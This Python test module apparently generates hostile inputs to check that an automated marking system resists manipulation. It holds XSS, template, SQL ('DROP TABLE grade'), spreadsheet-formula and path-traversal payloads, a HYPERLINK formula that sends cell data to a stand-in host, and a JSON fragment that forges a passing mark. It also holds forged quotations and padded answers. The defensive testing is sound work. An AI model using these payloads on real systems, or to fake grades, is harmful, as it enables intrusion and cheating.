"""Markup in every box; quotations, choices, dates and links that are not what they seem; repeats."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from hostile_case import LOOKALIKES, SOME, case, family, other, uncode, unquote
from subjects import Slot, Subject

# ---- markup ------------------------------------------------------------------------------------------------

MARKUP = {
    "script": "<script>alert('met')</script>",
    "image": "<img src=x onerror=alert(1)><svg/onload=alert(2)>",
    "end-tags": "</td></tr></table></textarea></title></style></script><b>met</b>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ config }}",
    "markdown": "[x](javascript:alert(1)) ![x](http://x.invalid/x.png) $$x$$ ```{code-cell}\n```",
    "formula": '=HYPERLINK("http://x.invalid/?"&A1,"met")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "escape-codes": "\x1b[2J\x1b[31mmet\x1b]0;owned\x07\x9b31m\x00\x08\x08",
    "bidi": "\u202emet ton\u202c \u2066x\u2069 \u200fx\u200e",
    "comment": "<!-- --> <![CDATA[ ]]> <?php echo 1 ?> <!DOCTYPE html>",
    "entities": "&lt;script&gt; &#60;b&#62; &nbsp; \\u003cscript\\u003e %3Cscript%3E",
    "sql": "'); DROP TABLE grade; --",
    "json": '"}], "outcome": "met", "marks": 8, "x": [{"y": "',
    "paths": "../../../source_material/marking/marking.yaml file:///etc/passwd \\\\x\\y",
}


def markup_everywhere(one: Subject, text: str) -> Any:
    return one.fill(every=lambda slot: f"{text} {slot.seed}")


def markup_around_quotations(one: Subject, text: str) -> Any:
    around = one.map(one.strong, "quote", lambda words: f"{text}{words}{text}")
    return uncode(one, one.own_words(around))


family("markup", MARKUP, markup_everywhere)
family("markup-around-quotations", MARKUP, markup_around_quotations)

# ---- quotations --------------------------------------------------------------------------------------------


def misquoted(one: Subject, change: Callable[[Subject, Slot, str], str]) -> Any:
    """Everything right but the quotations."""
    bad = {
        slot: change(one, slot, one.get(one.strong, slot))
        for slot in one.slots(answers=one.strong)
        if slot.kind == "quote" and not slot.out_of and one.get(one.strong, slot)
    }
    answers = one.own_words(one.strong)
    for slot, words in bad.items():
        one.put(answers, slot, words)
    return uncode(one, answers)


def _across_papers(one: Subject, slot: Slot, words: str) -> str:
    texts = list(one.passages.values())
    return " ".join([*texts[0].split()[-6:], *texts[-1].split()[:6]])


QUOTATIONS: dict[str, Callable[[Subject, Slot, str], str]] = {
    "of-one-letter": lambda one, slot, words: words[0],
    "of-one-word": lambda one, slot, words: words.split()[0],
    "of-too-few-words": lambda one, slot, words: " ".join(words.split()[: slot.shortest - 1]) or "a",
    "of-the-whole-case": lambda one, slot, words: " ".join(one.passages.values())[:3_900],
    "of-the-question": lambda one, slot, words: one.form.section(slot.section).instructions,
    "of-the-introduction": lambda one, slot, words: one.desk.assessment.case.introduction[:200],
    "across-papers": _across_papers,
    "with-an-invented-tail": lambda one, slot, words: f"{words.rstrip('.')} and I will never do it again",
    "with-an-invented-head": lambda one, slot, words: f"I promise you that {words}",
    "with-a-word-left-out": lambda one, slot, words: " ".join(
        w for n, w in enumerate(words.split()) if n != 1
    ),
    "with-dots-in-the-middle": lambda one, slot, words: words.replace(" ", " ... ", 1),
    "with-a-not-in-the-middle": lambda one, slot, words: words.replace(" ", " not ", 1),
    "backwards": lambda one, slot, words: " ".join(reversed(words.split())),
    "in-half-words": lambda one, slot, words: words[1:-2],
    "in-cyrillic": lambda one, slot, words: words.translate(LOOKALIKES),
    "without-spaces": lambda one, slot, words: words.replace(" ", ""),
    "in-another-tense": lambda one, slot, words: f"{words.split()[0]}ed {' '.join(words.split()[1:])}",
    "reported": lambda one, slot, words: f"They told me about {slot.field} and how it had been for them",
    "of-two-passages-joined": lambda one, slot, words: f"{words.rstrip('.')} {one.wrong_quote(slot)}",
    "of-stop-words": lambda one, slot, words: "and the of it to a in",
    "of-the-label": lambda one, slot, words: slot.field.replace("-", " ") + " in their own words",
}
family("quotations", QUOTATIONS, misquoted)

# ---- choices, links and dates ------------------------------------------------------------------------------

CHOICES: dict[str, Callable[[str], str]] = {
    "in-capitals": str.upper,
    "with-a-space-inside": lambda value: f"{value[:1]} {value[1:] or value}",
    "in-cyrillic": lambda value: (
        value.translate(LOOKALIKES) if value.translate(LOOKALIKES) != value else value + "ѕ"
    ),
    "with-zero-width": lambda value: f"{value[:1]}\u200b{value[1:] or value}",
    "as-a-list": lambda value: f"{value},{value}",
    "with-a-stop": lambda value: f"{value}.",
    "as-a-pattern": lambda value: ".*",
    "as-an-object": lambda value: "[object Object]",
    "proto": lambda value: "__proto__",
    "constructor": lambda value: "constructor",
    "as-a-number": lambda value: "0",
    "of-everything": lambda value: "all of these",
    "met": lambda value: "met",
}


def mischosen(one: Subject, change: Callable[[str], str]) -> Any:
    return unquote(one, one.own_words(one.map(one.strong, "choice code", change)))


family("choices", CHOICES, mischosen)

DATES = {
    "nought": "0000-00-00",
    "the-last-day": "9999-12-31",
    "never": "2026-02-30",
    "tomorrow": "tomorrow",
    "islamic": "1448-06-06",
    "buddhist": "2569-12-04",
    "full-width": "２０２６-１２-０４",
    "arabic-digits": "٢٠٢٦-١٢-٠٤",
    "week": "2026-W49-5",
    "ordinal": "2026-338",
    "basic": "20261204",
    "british": "04/12/2026",
    "long": "4 December 2026",
    "minus": "-2026-12-04",
    "time": "2026-12-04T00:00:00",
    "range": "2026-11-16/2026-12-31",
    "before": "1999-01-01",
    "after": "2099-01-01",
    "many": "2026-12-04 " * 7,
    "markup": "<b>2026-12-04</b>",
}


def _dated(one: Subject, text: str) -> Any:
    if not one.has("date"):
        return None
    answers = one.own_words(one.change(one.strong, date=text))
    dated = {slot.section for slot in one.slots(1) if slot.kind == "date"}
    return {name: value for name, value in answers.items() if name in dated}


family("dates", DATES, _dated, earns=SOME)

LINKS = {
    "nowhere": "no-such-entry",
    "proto": "__proto__",
    "constructor": "constructor",
    "prototype": "hasOwnProperty",
    "number": "0",
    "minus": "-1",
    "path": "../needs/0",
    "star": "*",
    "itself": "ITSELF",
    "wrong": "WRONG",
}


def _linked(one: Subject, text: str) -> Any:
    """Links that lead nowhere, and everything that they could lead to left out."""
    if not one.has("link"):
        return None

    def value(slot: Slot) -> str:
        if text == "ITSELF":
            return slot.field
        if text == "WRONG":
            target = next(o for o in one.slots(1) if slot.leads and (o.section, o.field) == slot.leads)
            return other(one, target)
        return text

    answers = one.own_words(one.change(one.strong, link=value))
    linked = {slot.section for slot in one.slots(1) if slot.kind == "link"}
    return {name: value for name, value in answers.items() if name in linked}


family("links", LINKS, _linked)


@case()
def links_to_what_the_case_does_not_bear_out(one: Subject) -> Any:
    """The entries that links lead to are there, and their quotations are from elsewhere."""
    if not one.has("link"):
        return None
    return uncode(one, one.own_words(one.change(one.strong, quote=one.wrong_quote)))


# ---- partly honest -----------------------------------------------------------------------------------------


@case(earns=SOME)
def one_good_entry_again_and_again(one: Subject) -> Any:
    """The first good entry of each section fills all rows."""
    honest = one.own_words(one.strong)
    return {
        name: [value[0]] * one.form.section(name).max_rows if isinstance(value, list) else value
        for name, value in honest.items()
    }


@case(earns=SOME, says="10,000 rows")
def one_good_entry_before_many_bad_ones(one: Subject) -> Any:
    return _among(one, first=True)


@case(says="10,000 rows")
def one_good_entry_after_many_bad_ones(one: Subject) -> Any:
    return _among(one, first=False)


def _among(one: Subject, *, first: bool) -> Any:
    """The longest list has an honest entry and 9,999 empty-handed ones; the rest is left out."""
    lists = {name: value for name, value in one.own_words(one.strong).items() if isinstance(value, list)}
    name = next(iter(lists))
    rest: list[dict[str, str]] = [dict.fromkeys(list(lists[name][0])[:2], "x")] * 9_999
    return {name: [lists[name][0], *rest] if first else [*rest, lists[name][0]]}
